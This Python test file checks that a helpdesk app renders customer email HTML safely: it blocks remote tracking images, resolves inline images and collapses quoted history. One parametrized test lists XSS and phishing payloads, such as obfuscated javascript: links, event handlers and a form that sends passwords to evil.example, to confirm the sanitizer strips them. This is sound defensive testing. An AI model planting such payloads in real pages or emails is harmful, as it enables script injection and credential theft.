"""Email HTML on the ticket page: remote images blocked, inline images resolved, quoted history collapsed."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from tests.factories import EntryFactory, TicketFactory
from tickets.attachments import attachment_store
from tickets.email_display import render_entry_html
from tickets.html import sanitize_html
from tickets.models import TimelineEntry

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


@pytest.fixture(autouse=True)
def media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def rendered(html: str, *, load_images: bool = False, data: dict | None = None) -> dict:
    entry = TimelineEntry(html=sanitize_html(html), data=data or {})
    return render_entry_html(entry, load_images=load_images)


def test_given_a_remote_image_when_rendered_by_default_then_it_is_blocked_counted_and_its_alt_kept():
    result = rendered('<p>Hi</p><img src="https://tracker.example/p.gif" alt="Our logo">'
                      '<img src="http://tracker.example/2.gif">')

    assert "tracker.example" not in result["html"]
    assert 'alt="Our logo"' in result["html"]
    assert result["blocked_images"] == 2


def test_given_a_remote_image_when_the_agent_loads_images_then_it_is_shown():
    result = rendered('<p>Hi</p><img src="https://cdn.example/photo.jpg" alt="photo">', load_images=True)

    assert 'src="https://cdn.example/photo.jpg"' in result["html"]
    assert result["blocked_images"] == 0


def test_given_a_data_uri_image_when_rendered_then_its_data_is_dropped():
    result = rendered('<p>Hi</p><img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel">', load_images=True)

    assert "data:" not in result["html"]
    assert "base64" not in result["html"]


def test_given_an_inline_image_with_a_known_content_id_when_rendered_then_it_points_at_the_attachment(people):
    entry = EntryFactory(html=sanitize_html('<p>See</p><img src="cid:part1.abc@mail" alt="screenshot">'),
                         data={"inline": {"<part1.abc@mail>": "screen.png"}})
    attachment = attachment_store(entry=entry, filename="screen.png", data=PNG)

    result = render_entry_html(entry, load_images=False)

    assert f'src="{reverse("attachment-download", args=[attachment.public_id])}"' in result["html"]
    assert result["blocked_images"] == 0


def test_given_an_inline_image_without_a_mapping_when_rendered_then_it_stays_blocked(people):
    entry = EntryFactory(html=sanitize_html('<p>See</p><img src="cid:part1.abc@mail" alt="screenshot">'))
    attachment_store(entry=entry, filename="screen.png", data=PNG)

    result = render_entry_html(entry, load_images=True)

    assert "cid:" not in result["html"]
    assert "/attachments/" not in result["html"]
    assert 'alt="screenshot"' in result["html"]


@pytest.mark.parametrize("separator", [
    "On Mon, 1 Jan 2024 at 10:00, John Smith &lt;john@example.org&gt; wrote:",
    "W dniu 1.01.2024 o 10:00, Jan Kowalski &lt;jan@example.pl&gt; pisze:",
    "1 янв. 2024 г., в 10:00, Иван Петров &lt;ivan@example.ru&gt; написал(а):",
    "Am 01.01.2024 um 10:00 schrieb Max Muster &lt;max@example.de&gt;:",
    "-----Original Message-----",
])
def test_given_a_reply_header_when_rendered_then_it_and_the_history_below_are_split_off(separator):
    result = rendered(f"<p>My new answer</p><p>{separator}<br>The old message</p>")

    assert "My new answer" in result["html"]
    assert "The old message" not in result["html"]
    assert "The old message" in result["quoted_html"]
    assert re.sub(r"&lt;.*?&gt;", "", separator)[:12] in result["quoted_html"]


def test_given_an_outlook_header_block_when_rendered_then_it_is_split_off():
    result = rendered("<p>Fine by me</p><hr><p><b>From:</b> Anna<br><b>Sent:</b> Monday<br>Old text</p>")

    assert "Fine by me" in result["html"]
    assert "Old text" not in result["html"]
    assert "<hr>" not in result["html"]
    assert "Old text" in result["quoted_html"]


def test_given_a_trailing_blockquote_when_rendered_then_it_is_split_off():
    result = rendered("<p>Thanks!</p><blockquote>What is your order number?</blockquote>")

    assert "order number" not in result["html"]
    assert "<blockquote>What is your order number?</blockquote>" in result["quoted_html"]


def test_given_an_answer_between_quotes_when_rendered_then_only_the_last_quote_is_hidden():
    result = rendered("<blockquote>Question one?</blockquote><p>Answer one.</p><blockquote>Old sign-off</blockquote>")

    assert "Question one?" in result["html"]
    assert "Answer one." in result["html"]
    assert "Old sign-off" in result["quoted_html"]


def test_given_a_signature_when_rendered_then_it_is_split_off():
    result = rendered("<p>Thanks</p><p>-- <br>Jane Doe<br>ACME Ltd</p>")

    assert "Jane Doe" not in result["html"]
    assert "Jane Doe" in result["quoted_html"]


def test_given_a_message_that_is_only_a_quote_when_rendered_then_nothing_is_hidden():
    result = rendered("<blockquote>Forwarded words</blockquote>")

    assert "Forwarded words" in result["html"]
    assert result["quoted_html"] == ""


def test_given_a_sentence_that_mentions_wrote_when_rendered_then_it_is_not_taken_for_a_header():
    result = rendered("<p>Hello</p><p>On Monday you wrote: the parcel is late. It still is.</p>")

    assert "the parcel is late" in result["html"]
    assert result["quoted_html"] == ""


def test_given_scripts_and_styles_when_rendered_then_they_stay_out_of_both_parts():
    entry = TimelineEntry(
        html='<p>Hi<script>alert(1)</script></p><style>p{color:red}</style><p onclick="x()">'
             'On Mon, John wrote:</p><blockquote><script>alert(2)</script>old</blockquote>',
        data={},
    )

    result = render_entry_html(entry, load_images=False)

    for part in (result["html"], result["quoted_html"]):
        assert "script" not in part
        assert "alert" not in part
        assert "color:red" not in part
        assert "onclick" not in part
    assert "old" in result["quoted_html"]


# --- the ticket page --------------------------------------------------------------------------------------

EMAIL = (
    '<p>The parcel never arrived.</p><img src="https://tracker.example/open.gif" alt="">'
    "<p>On Mon, 1 Jan 2024 at 10:00, Shop &lt;shop@example.org&gt; wrote:</p>"
    "<blockquote>Your parcel is on its way.</blockquote>"
)


@pytest.fixture
def email_ticket(people):
    ticket = TicketFactory(customer=people.customer, team=people.team_a, assignee=people.agent_a, status="open")
    entry = EntryFactory(ticket=ticket, author_customer=people.customer, html=sanitize_html(EMAIL),
                         text="The parcel never arrived.\n\nOn Mon ... wrote:\n> Your parcel is on its way.")
    return ticket, entry


def test_given_an_html_email_when_an_agent_opens_the_ticket_then_remote_images_are_blocked(client, people, email_ticket):
    ticket, entry = email_ticket
    client.force_login(people.agent_a)

    html = client.get(f"/app/tickets/{ticket.pk}/").content.decode()

    assert "The parcel never arrived." in html
    assert not re.search(r'<img[^>]+src="https?://', html)
    assert f'href="?images={entry.pk}#entry-{entry.pk}"' in html
    assert "1 remote image blocked" in html


def test_given_an_html_email_when_the_agent_loads_its_images_then_they_are_shown(client, people, email_ticket):
    ticket, entry = email_ticket
    client.force_login(people.agent_a)

    html = client.get(f"/app/tickets/{ticket.pk}/", {"images": entry.pk}).content.decode()

    assert '<img src="https://tracker.example/open.gif"' in html
    assert "remote image blocked" not in html


def test_given_an_html_email_when_an_agent_opens_the_ticket_then_history_and_plain_text_are_collapsed(
    client, people, email_ticket,
):
    ticket, _entry = email_ticket
    client.force_login(people.agent_a)

    html = client.get(f"/app/tickets/{ticket.pk}/").content.decode()

    details = re.findall(r"<details.*?</details>", html, re.DOTALL)
    quoted = [d for d in details if "Show quoted text" in d]
    plain = [d for d in details if "Plain text" in d]
    assert len(quoted) == 1 and "Your parcel is on its way." in quoted[0]
    assert html.count("Your parcel is on its way.") == 2  # the quoted HTML and the plain text, both collapsed
    assert len(plain) == 1 and "&gt; Your parcel is on its way." in plain[0]


def test_given_an_inline_image_when_an_agent_opens_the_ticket_then_it_shows_from_the_attachment(
    client, people, email_ticket,
):
    ticket, _entry = email_ticket
    entry = EntryFactory(ticket=ticket, html=sanitize_html('<p>Photo:</p><img src="cid:img1@x" alt="broken box">'),
                         data={"inline": {"img1@x": "box.png"}})
    attachment = attachment_store(entry=entry, filename="box.png", data=PNG)
    client.force_login(people.agent_a)

    html = client.get(f"/app/tickets/{ticket.pk}/").content.decode()

    assert f'<img src="/app/attachments/{attachment.public_id}/" alt="broken box">' in html


def test_given_an_html_email_when_the_customer_page_is_opened_then_remote_images_are_blocked_there_too(
    client, people, email_ticket,
):
    client.force_login(people.agent_a)

    html = client.get(f"/app/customers/{people.customer.pk}/").content.decode()

    assert "The parcel never arrived." in html
    assert "tracker.example" not in html


@pytest.mark.parametrize("hostile, forbidden", [
    ('<a href="javascript:alert(1)">x</a>', "javascript"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "alert"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "alert"),
    ('<a href=" javascript:alert(1)">x</a>', "alert"),
    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data:"),
    ('<img src="x" onerror="alert(1)">', "onerror"),
    ('<svg onload="alert(1)"><circle/></svg>', "onload"),
    ('<body onload="alert(1)"><p>x</p></body>', "onload"),
    ('<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>', "form"),
    ('<form action="https://evil.example/steal"><input name="password"></form>', "<input"),
    ('<iframe src="https://evil.example"></iframe>', "iframe"),
    ('<object data="evil.swf"></object><embed src="evil.swf">', "evil.swf"),
    ('<p style="position:fixed;top:0;left:0;width:100%;height:100%">Your session expired</p>', "style"),
    ('<div style="background:url(https://tracker.example/p.gif)">x</div>', "tracker.example"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil.example"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "evil.example"),
    ('<base href="https://evil.example/">', "evil.example"),
    ('<p class="topbar" id="csrf-token">spoofed chrome</p>', "csrf-token"),
    ('<a href="https://shop.example" target="_blank">x</a>', "_blank"),
])
def test_given_hostile_html_when_sanitized_then_the_trick_is_gone_and_the_text_stays(hostile, forbidden):
    clean = sanitize_html(hostile + "<p>visible words</p>")
    shown = rendered(hostile + "<p>visible words</p>", load_images=True)["html"]

    for html in (clean, shown):
        assert forbidden.lower() not in html.lower()
        assert "visible words" in html
